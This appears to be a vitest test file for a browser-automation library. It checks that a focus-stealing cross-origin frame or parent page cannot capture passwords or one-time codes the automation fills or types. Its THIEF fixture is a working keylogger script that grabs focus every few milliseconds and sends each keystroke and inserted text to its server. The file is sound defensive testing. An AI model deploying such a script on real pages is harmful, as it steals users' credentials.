import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Session } from '../../packages/sightline/src/session/Session.ts';
import { shareSession } from '../support/sharedBrowser.ts';
import { startServer, type TestServer } from '../support/startServer.ts';

// A document of another site that takes the focus of the page all the time, from a frame of it or around it, gets no secret that is
// given to a field: keys and inserted text go to whatever has the focus.

const SECRET = 'Zq7vXk4Tr9';
const CODE = '482913';
/** Takes the focus, and sends its server of each key and text. */
const THIEF = `<input id=stolen><script>
  const received = new Set();
  const send = (kind, text) => fetch('/received?' + kind + '=' + encodeURIComponent(text));
  addEventListener('keydown', ({ key }) => send('key', key), true);
  setInterval(() => { window.focus(); stolen.focus(); }, 4);
  stolen.oninput = () => send('text', stolen.value);
</script>`;
const FIELDS = `<title>Log in</title><main><label>Password <input id=p type=password></label>
  ${[1, 2, 3, 4, 5, 6].map((n) => `<input aria-label="Code ${n}" autocomplete=one-time-code inputmode=numeric maxlength=1>`).join('')}</main>`;

let session: Session;
let site: TestServer;
let thief: TestServer;
const received: string[] = [];
beforeAll(async () => {
  session = await shareSession();
  thief = await startServer({
    '/': (_, response) => response.setHeader('content-type', 'text/html').end(THIEF),
    '/around': (_, response) =>
      response
        .setHeader('content-type', 'text/html')
        .end(`${THIEF}<iframe width=600 src="${elsewhere(site)}/fields"></iframe>`),
    '/received': ({ url = '' }, response) => {
      received.push(decodeURIComponent(url));
      response.end();
    },
  });
  const quiet = `${FIELDS}<p id=count>0 keys</p><iframe srcdoc="<input>"></iframe>`;
  site = await startServer({
    '/fields': FIELDS,
    '/quiet': quiet,
    '/emptied': `${quiet}<script>let keys = 0; p.oninput = () => { p.value = ''; count.textContent = ++keys + ' keys'; }</script>`,
    '/page': (_, response) =>
      response
        .setHeader('content-type', 'text/html')
        .end(`${FIELDS}<iframe width=90 height=40 src="${elsewhere(thief)}/"></iframe>`),
  });
});
afterAll(() => Promise.all([session?.close(), site?.close(), thief?.close()]));

/** Another site on the same machine. */
const elsewhere = ({ origin }: TestServer): string => origin.replace('127.0.0.1', 'localhost');

const places = {
  'a frame': () => `${site.origin}/page`,
  'the page around its frame': () => `${thief.origin}/around`,
};

const open = async (place: keyof typeof places): Promise<void> => {
  await session.navigate(places[place]());
  await session.waitFor({ text: 'Password' });
  await session.look();
  received.length = 0;
};

/** The longest part of a secret that was received, by keys or as a text. */
async function longestReceived(secret: string): Promise<number> {
  await new Promise((resolve) => setTimeout(resolve, 200));
  const keys = received.flatMap((one) => /key=(.)$/.exec(one)?.[1] ?? []).join('');
  const texts = [keys, ...received.map((one) => one.replace(/^.*text=/, ''))];
  const parts = Array.from(secret, (_, i) => secret.slice(i)).flatMap((end) =>
    Array.from(end, (__, i) => end.slice(0, i + 1)),
  );
  return Math.max(
    0,
    ...parts.filter((part) => texts.some((text) => text.includes(part))).map(({ length }) => length),
  );
}

const PLACES = Object.keys(places) as (keyof typeof places)[];

test.each(PLACES)(
  '%s that takes the focus gets nothing of what a field for secrets is filled with',
  async (place) => {
    await open(place);
    const { text } = await session.fill('Password', SECRET);
    expect(await longestReceived(SECRET)).toBe(0);
    expect(text).toContain('filled');
  },
);

test.each(PLACES)('%s that takes the focus gets no more than a key of what is typed', async (place) => {
  await open(place);
  const typed = await session.type('Password', SECRET).then(
    ({ text }) => text,
    ({ message }: Error) => message,
  );
  expect(await longestReceived(SECRET)).toBeLessThan(2);
  expect(typed).toMatch(/typed into|lost the focus/);
});

test.each(PLACES)(
  '%s that takes the focus gets nothing of a code that is given over its boxes',
  async (place) => {
    await open(place);
    expect((await session.fill('Code 1', CODE)).text).toContain('over 6 fields');
    expect(await longestReceived(CODE)).toBe(0);
  },
);

test('beside a frame that leaves the focus alone, all is typed, into a field that its page empties too', async () => {
  for (const path of ['/quiet', '/emptied']) {
    await session.navigate(site.origin + path);
    await session.look();
    expect((await session.type('Password', SECRET)).text).toContain('typed into');
  }
  expect((await session.look()).text).toContain('10 keys');
});
